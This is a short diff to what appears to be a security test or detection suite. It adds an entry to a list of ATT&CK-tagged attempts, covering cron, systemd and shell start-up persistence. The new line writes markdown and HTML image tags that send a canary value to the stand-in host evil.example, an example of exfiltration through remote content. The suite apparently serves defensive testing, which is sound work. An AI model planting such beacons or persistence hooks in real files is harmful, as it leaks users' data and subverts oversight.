@@ -6,6 +6,8 @@ def written(number, name, technique, *names, rule="runs_later", text="#!/bin/sh\
 
 
 ATTEMPTS = [
+    written(28, "image in a document that fetches what it carries", "T1567", "notes.md", "page.html", "drawing.svg", rule="loads_remote_content",
+            text='![x](https://evil.example/p?d=canary)\\n<img src="https://evil.example/q?d=canary">\\n'),
     written(65, "systemd timer, cron", "T1053.006|T1053.003", ".config/systemd/user/x.timer", "etc/cron.d/x", "crontab"),
     written(66, "systemd unit", "T1543.002", ".config/systemd/user/x.service"),
     written(67, "shell start-up", "T1546.004", ".bashrc", ".profile", ".zshenv", ".bash_aliases", ".bash_logout",
